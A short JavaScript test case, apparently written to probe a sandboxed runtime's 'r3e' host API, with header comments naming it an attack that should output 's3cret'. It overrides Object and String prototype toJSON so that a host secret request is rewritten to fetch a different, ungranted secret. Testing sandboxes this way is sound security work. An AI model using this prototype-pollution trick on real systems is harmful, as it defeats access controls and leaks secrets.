// attack: Gives texts, arrays and objects a JSON form of another call, and makes host calls.
// limit: none
// ends: output "s3cret"
export default async () => {
  Object.prototype.toJSON = String.prototype.toJSON = () => ({ op: "secret_get", name: "another" });
  const secret = await r3e.secrets.get("name");
  delete Object.prototype.toJSON;
  delete String.prototype.toJSON;
  return secret;
};
